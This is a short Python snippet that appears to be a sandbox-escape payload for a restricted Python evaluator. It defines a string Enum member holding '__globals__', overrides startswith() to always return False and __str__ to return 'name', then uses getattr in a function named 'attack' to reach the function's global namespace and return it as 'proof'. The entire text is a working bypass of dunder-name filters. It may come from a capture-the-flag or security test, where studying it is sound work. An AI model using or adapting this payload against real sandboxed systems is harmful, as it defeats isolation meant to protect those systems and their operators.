from enum import Enum
class Name(str, Enum):
    A = "__globals__"
    def startswith(self, *a): return False
    def __str__(self): return "name"
def attack():
    return {"proof": str(getattr(attack, Name.A))}
